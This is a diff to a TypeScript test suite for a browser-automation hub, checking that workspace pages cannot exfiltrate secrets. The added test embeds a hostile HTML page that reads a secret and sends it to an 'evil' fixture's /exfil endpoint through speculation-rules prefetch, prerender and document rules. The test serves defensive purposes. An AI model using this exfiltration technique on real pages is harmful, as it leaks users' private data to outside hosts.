@@ -9,6 +9,7 @@ import { after, before, describe, test } from "node:test";
 import type { Client } from "@modelcontextprotocol/sdk/client/index.js";
 import { PNG } from "pngjs";
 import { call } from "../helpers/hub.js";
+import { until } from "../helpers/wait.js";
 import { startHostile, stealScript, WORKSPACE, type Hostile } from "../fixtures/browser/hostile.js";
 import { evaluate, ok, refOf, startHarness, textOf, type Harness } from "./harness.js";
 
@@ -102,7 +103,9 @@ describe("browser workspace exfiltration", () => {
     assert.doesNotMatch(textOf(viaTool), new RegExp(SECRET));
     await assertNoTabShowsSecret();
     await ok(c, "navigate", { url: `${evil.origin}/jump-redirect?to=${encodeURIComponent("/secret.html")}` });
-    await ok(c, "wait_for", { time: 1 });
+    // the page's jump lands on the refusal (waited for: on a loaded machine a fixed second could end
+    // before the jump, which then cut the next test's navigation short)
+    await ok(c, "wait_for", { text: "only reachable from workspace pages" });
     await assertNoTabShowsSecret();
     await assertNothingStolen(0);
   });
@@ -118,8 +121,15 @@ describe("browser workspace exfiltration", () => {
         evil.turnPort,
       )}</script>`,
     );
-    await ok(c, "navigate", { url: fileUrl("saved/page.html") });
-    await ok(c, "wait_for", { time: 3 });
+    // its last try, location to the hostile site, is stopped by Chromium itself (the page's
+    // Connection-Allowlist), and the first response after says so
+    const replies = [textOf(await ok(c, "navigate", { url: fileUrl("saved/page.html") }))];
+    const held = /A workspace page may not open other sites: Chromium stopped .* Open the address you want with browser_navigate/;
+    await until("the notice of the held navigation", async () => {
+      if (held.test(replies.join("\n"))) return true;
+      replies.push(textOf(await ok(c, "snapshot")));
+      return false;
+    });
     await assertNothingStolen();
     await assertNoTabShowsSecret();
     const messages = textOf(await ok(c, "console_messages"));
@@ -128,7 +138,48 @@ describe("browser workspace exfiltration", () => {
     assert.deepEqual(evil.received.slice(before), [], "not even the failures reached the hostile site (beacon, fetch, image, popup, location)");
     assert.match(messages, /webrtc failed/);
     assert.equal(evil.turnPackets, packetsBefore, "nothing reached the hostile TURN server");
-    assert.match(textOf(await ok(c, "snapshot")), /A workspace page may not open other sites/);
+  });
+
+  test("a workspace page's speculation rules reach no other site with what it learnt", async () => {
+    // what a page can learn of other files: an image's size, the globals a script it includes defines
+    write("spec/plot.png", PNG.sync.write(new PNG({ width: 7, height: 5 })));
+    write("spec/config.js", `var LEARNT = ${JSON.stringify(SECRET)};`);
+    const exfil = (via: string) => `${evil.origin}/exfil?via=${via}&d=`;
+    write(
+      "spec/page.html",
+      `<!doctype html><title>Spec</title><script src="config.js"></script>
+       <script type="speculationrules">{"prefetch":[{"source":"list","urls":["${exfil("static")}fixed"]}]}</script>
+       <img id="plot" src="plot.png"><a id="link" href="${evil.origin}/">a link</a>
+       <script>
+         document.getElementById("plot").decode().then(() => {
+           const d = encodeURIComponent(LEARNT + "-w" + document.getElementById("plot").naturalWidth);
+           document.getElementById("link").href = ${JSON.stringify(exfil("document"))} + d;
+           const rules = {
+             prefetch: [
+               { source: "list", urls: [${JSON.stringify(exfil("prefetch"))} + d] },
+               { source: "document", where: { href_matches: ${JSON.stringify(`${evil.origin}/*`)} }, eagerness: "immediate" },
+             ],
+             prerender: [{ source: "list", urls: [${JSON.stringify(exfil("prerender"))} + d] }],
+           };
+           const script = Object.assign(document.createElement("script"), { type: "speculationrules", textContent: JSON.stringify(rules) });
+           document.body.append(script);
+           console.log("rules added: " + HTMLScriptElement.supports("speculationrules"));
+         });
+       </script>`,
+    );
+    // (a Speculation-Rules header would be a third way in: a workspace page's headers are the hub's alone)
+    await ok(c, "navigate", { url: `${evil.origin}/speculate` });
+    await until("an ordinary site's own prefetch", () => evil.received.some((r) => r.includes("via=site-prefetch")));
+    const before = evil.received.length;
+    await ok(c, "navigate", { url: fileUrl("spec/page.html") });
+    assert.match(textOf(await ok(c, "wait_for", { text: "a link" })), /a link/);
+    assert.equal(await evaluate(c, "document.getElementById('plot').naturalWidth"), 7, "the page read the image");
+    // the page added its rules, and Chromium takes speculation rules; then (bounded) nothing may arrive
+    await until("the page's rules", async () => /rules added: true/.test(textOf(await ok(c, "console_messages"))));
+    const deadline = Date.now() + 5000;
+    while (Date.now() < deadline && !evil.received.slice(before).some((r) => /via=/.test(r))) await new Promise((r) => setTimeout(r, 100));
+    assert.deepEqual(evil.received.slice(before), [], "no speculation (static, prefetch, prerender, document rule) reached the hostile site");
+    await assertNothingStolen(0);
   });
 
   test("a listing never runs markup from a file name", async () => {
@@ -168,7 +219,7 @@ describe("browser workspace exfiltration", () => {
     const before = evil.received.length;
     assert.match(
       textOf(await ok(c, "click", { ref: refOf(report, 'link "elsewhere"') })),
-      /A workspace page may not open other sites; open .* with browser_navigate/,
+      /A workspace page may not open other sites[:;] .* with browser_navigate/,
     );
     assert.deepEqual(evil.received.slice(before), []);
     // a new tab and the history tools are the tool's too
